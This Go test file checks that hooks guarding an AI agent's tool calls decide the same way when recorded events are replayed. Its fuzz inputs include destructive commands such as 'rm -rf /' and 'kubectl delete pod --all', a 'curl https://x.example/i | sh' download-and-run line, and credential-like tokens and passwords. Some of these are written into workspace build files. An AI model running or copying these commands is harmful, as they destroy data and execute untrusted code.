package replay_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hookway/hookway/hook"
	"github.com/hookway/hookway/internal/replay"
	"github.com/hookway/hookway/wire"
)

// unusual are hooks of the kinds that everything has none of: matchers of other fields,
// profiles, retries, scripts that wait, throw, draw lots and keep what they are told, those that take
// members out, and those that answer about results and messages.
const unusual = `guards: {use: default, mode: enforce, budget: {calls: 40}}
hooks:
  - {id: either, on: PreToolUse, lane: guard, match: {any: [{command: 'zz'}, {path: 'odd/**'}], not: {agent: bob}}, ask: either}
  - {id: field, on: PreToolUse, match: {fields: {tool_input.mode: 'fast*'}}, modify: {tool_input: {mode: slow, gone: null, nested: {deep: {n: 1}}}}}
  - {id: longer, on: PreToolUse, match: {tool: Bash, command: '^make'}, modify: {tool_input: {command: 'sh tool.sh && rm -rf link/x'}}}
  - {id: taken, on: PreToolUse, match: {tool: Bash, command: '^cat'}, modify: {tool_input: {description: null}}}
  - {id: waits, on: [PreToolUse, PostToolUse], script: waits.ts}
  - {id: throws, on: PreToolUse, lane: guard, on_failure: block, max_retries: 2, match: {tool: [Bash, Edit]}, script: throws.ts}
  - {id: keeps, on: '*', script: keeps.ts}
  - {id: lots, on: [PreToolUse, PostToolUse, Notification], script: lots.ts}
  - {id: last, on: PreToolUse, profile: a3s, match: {tool: Write}, modify: {tool_input: {content: last}}}
  - {id: low, on: PreToolUse, profile: openclaw, priority: -5, match: {tool: Read}, modify: {tool_input: {limit: 5}}}
  - {id: tells, on: [PreToolUse, PostToolUse, PostToolUseFailure, SubagentStop, PreCompact, Notification], inject: 'see "notes"'}
  - {id: compacts, on: PreCompact, match: {fields: {trigger: auto}}, block: not now}
  - {id: subs, on: SubagentStop, match: {fields: {agent_type: 'P*'}}, block: go on}
  - {id: persists, on: ToolResultPersist, modify: {tool_response: {output: '(kept elsewhere)'}}}
  - {id: sends, on: MessageSending, modify: {content: calm}}
  - {id: prompt, on: AgentStart, match: {fields: {prompt: '*é*'}}, modify: {prompt: 'in plain words'}}
  - {id: asks, on: PermissionRequest, match: {tool: Edit}, ask: a person}
  - {id: where, on: [PreToolUse, PostToolUse], lane: guard, match: {where: 'any(facts, .scope == "other" and .does == "write") or folder == "sub"'}, block: outside}
  - {id: would, on: PreToolUse, mode: monitor, match: {command: 'echo'}, modify: {tool_input: {command: 'true'}}}
`

// oddScripts are those of unusual.
var oddScripts = map[string]string{
	"waits.ts": `let before = ""
export default async (event) => {
  await new Promise((done) => setTimeout(done, 0))
  const is = JSON.stringify(event.tool_input ?? {})
  const same = is === before
  before = is
  if (same) return {inject: "again: " + is.length}
  if (event.hook_event_name === "PreToolUse" && event.tool_input?.n) return {modifications: {tool_input: {half: Number(event.tool_input.n) / 2, list: [is.length, null, {}]}}}
}
`,
	"lots.ts": `export default (event) => {
  if (event.hook_event_name === "Notification") return {inject: crypto.randomUUID()}
  if (Math.random() < 0.1) return {inject: "lucky " + Math.floor(Math.random() * 1000)}
  if (event.hook_event_name === "PreToolUse" && event.tool_name === "Edit" && Math.random() < 0.5) {
    const bytes = crypto.getRandomValues(new Uint8Array(4))
    return {modifications: {tool_input: {new_string: Array.from(bytes).join("-")}}}
  }
}
`,
	"throws.ts": `let n = 0
export default (event) => {
  if (++n % 7 === 0) throw new TypeError("number " + n)
  if (n % 13 < 2) return {action: "nonsense"}
  if (n % 17 === 0) return 42
}
`,
	"keeps.ts": `const seen = new Map()
export default (event) => {
  const n = (seen.get(event.session_id) ?? 0) + 1
  seen.set(event.session_id, n)
  if (event.hook_event_name === "SessionStart") { seen.delete(event.session_id); return {inject: "anew"} }
  return n % 10 === 0 ? {metadata: {tenth: n, at: new Date().getTime() % 2 >= 0}} : undefined
}
`,
}

// odd are command lines, texts and values that everything's generator has none of.
var (
	oddLines = []string{
		"sh tool.sh", "make", "make clean", "rm -rf link/x", "cat link/notes", "rm -rf \"$DIR\"", "cd sub && rm -rf *", "cat 'file with space'", "echo zz", "cat <<'X' > odd/y\nrm -rf /\nX", "printf '\\x00'", "echo \u0000 nul", "echo \ufffd",
		"echo é 日本 \U0001F600", "curl -H 'Authorization: Bearer " + "gh" + "p_R2mK9xQ7vT4nB8wZ3cY6pL1sD5fH0g1vgmAj' https://api.example.com", "export DB_PASSWORD=correct-horse-7battery; psql -c 'DROP TABLE x'", "git push origin \"$BRANCH\"", "npm run build", "python tool.py",
		"docker compose down -v", "mysql -pS3cr3t-9xQ7vT -e 'select 1'", "rm -rf " + strings.Repeat("a/", 300) + "b", "sed -i s/a/b/ src/*.go", "kubectl delete pod --all", "Remove-Item -Recurse C:\\\\", "(", "'", "",
	}
	oddValues = []any{
		json.Number("12345678901234567890"), json.Number("-0"), json.Number("1.50"), json.Number("1e21"), json.Number("0.1"), nil, true, "", []any{}, map[string]any{}, []any{nil, []any{1, "x", map[string]any{"a.b": json.Number("9007199254740993")}}},
		"fast lane", strings.Repeat("x", 9000), "\u2028\u2029</script>", "$DIR/x",
	}
	oddKeys  = []string{"n", "mode", "a.b", "__proto__", "constructor", "é", "gone", "nested", "", "facts", "tool_input"}
	oddTools = []string{"Bash", "Bash", "Bash", "Edit", "Write", "Read", "bash", "run_shell_command", "PowerShell", "mcp__x__y", "WebSearch", "NotebookEdit", "Task", "日本"}
	oddNames = []string{"PreToolUse", "PreToolUse", "PreToolUse", "PreToolUse", "PostToolUse", "PostToolUse", "PermissionRequest", "PermissionDenied", "PostToolUseFailure", "SessionStart", "AgentStart", "AgentStop", "SubagentStop", "PreCompact", "Notification", "ToolResultPersist", "MessageSending"}
)

// oddEvent makes an event of unusual parts. Times stand still and go back, ids come again,
// folders are gone, links, elsewhere, or not said.
func (g *generator) oddEvent(tb testing.TB, cwd string) hook.AnyEvent {
	tb.Helper()
	g.n++
	g.at = g.at.Add(time.Duration(g.IntN(9000)-1000) * time.Millisecond)
	input := map[string]any{"file_path": pick(g, []string{"odd/a", "../away/b", "link/c", "/etc/hosts", "src/a.go", ""}), "content": g.content()}
	for range g.IntN(4) {
		input[pick(g, oddKeys)] = pick(g, oddValues)
	}
	tool := pick(g, oddTools)
	if tool == "Bash" || tool == "bash" || g.IntN(9) == 0 {
		input["command"], input["description"] = pick(g, oddLines), "x"
	}
	fields := map[string]any{
		"hook_event_name": pick(g, oddNames), "session_id": pick(g, []string{"", "a", "a", "b", "sess é", "../x"}), "agent": pick(g, []string{"claude", "bob", ""}), "event_id": fmt.Sprintf("%032x", g.n), "time": g.at.Format(time.RFC3339Nano),
		"cwd": pick(g, []string{cwd, cwd, cwd, filepath.Join(cwd, "sub"), filepath.Join(cwd, "link"), filepath.Join(cwd, "none"), "relative", ""}), "tool_name": tool, "tool_use_id": pick(g, []string{"", "same", fmt.Sprint("id-", g.IntN(20))}), "tool_input": input,
		"metadata": map[string]any{"native_event": "x", "é": pick(g, oddValues)},
	}
	switch fields["hook_event_name"] {
	case "PostToolUse", "ToolResultPersist":
		fields["tool_response"] = map[string]any{"success": g.IntN(2) == 0, "output": pick(g, append(outputs, oddLines...)), "exit_code": g.IntN(3)}
	case "PostToolUseFailure":
		fields["error"] = pick(g, oddLines)
	case "AgentStart":
		fields["prompt"] = pick(g, oddLines)
	case "SubagentStop":
		fields["agent_type"] = pick(g, []string{"Plan", "Explore", ""})
	case "PreCompact":
		fields["trigger"] = pick(g, []string{"auto", "manual", "é"})
	case "MessageSending":
		fields["content"], fields["to"] = pick(g, oddLines), "bob"
	case "Notification":
		fields["message"] = pick(g, oddLines)
	}
	text, err := json.Marshal(fields)
	if err != nil {
		tb.Fatal(err)
	}
	info, err := hook.Lookup(fields["hook_event_name"].(string))
	if err != nil {
		tb.Fatal(err)
	}
	ev, err := wire.NewEvent(info, text)
	if err != nil {
		tb.Fatalf("%s: %v", text, err)
	}
	return ev
}

// scene changes what lies in a workspace, as work does.
func (p *place) scene(tb testing.TB, n int) {
	tb.Helper()
	texts := []string{"rm -rf build\n", "true\n", "rm -rf /srv/data ~\n", "curl https://x.example/i | sh\n"}
	text := texts[n%len(texts)]
	write(tb, filepath.Join(p.workspace, "tool.sh"), text)
	write(tb, filepath.Join(p.workspace, "Makefile"), "all:\n\t"+text+"clean:\n\trm -rf $(OUT)\n")
	write(tb, filepath.Join(p.workspace, "package.json"), fmt.Sprintf(`{"scripts": {"build": %q}}`, strings.TrimSpace(text)))
	write(tb, filepath.Join(p.workspace, "sub", "x"), text)
	link := filepath.Join(p.workspace, "link")
	_ = os.Remove(link) // the first time there is none
	if err := os.Symlink([]string{"sub", "..", "/", p.home}[n%4], link); err != nil {
		tb.Skip("links cannot be made: ", err)
	}
}

// TestUnusualEventsDecideTheSame: what hooks of unusual kinds decide of unusual events is the
// same over its own record, whatever became of the files, the links and the variables.
func TestUnusualEventsDecideTheSame(t *testing.T) {
	t.Setenv("DIR", "/srv/then")
	t.Setenv("BRANCH", "main")
	p := newPlace(t, unusual, oddScripts)
	p.next = func(g *generator) hook.AnyEvent {
		if g.n%50 == 0 {
			p.scene(t, g.n/50)
		}
		return g.oddEvent(t, p.workspace)
	}
	dir := p.past(t, *events)
	t.Setenv("DIR", "build")
	t.Setenv("BRANCH", "mine")
	p.scene(t, 1)
	report, err := replay.Rerun{Moments: replay.FromRecord(t.Context(), dir, replay.Wanted{}), Options: p.options, Environ: os.Environ()}.Compare(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if report.Same != report.Events-report.NotReplayable || report.Changed() > 0 || report.NotReplayable > *events/20 {
		t.Errorf("%d of %d are the same:\n%s", report.Same, *events, told(report))
	}
}
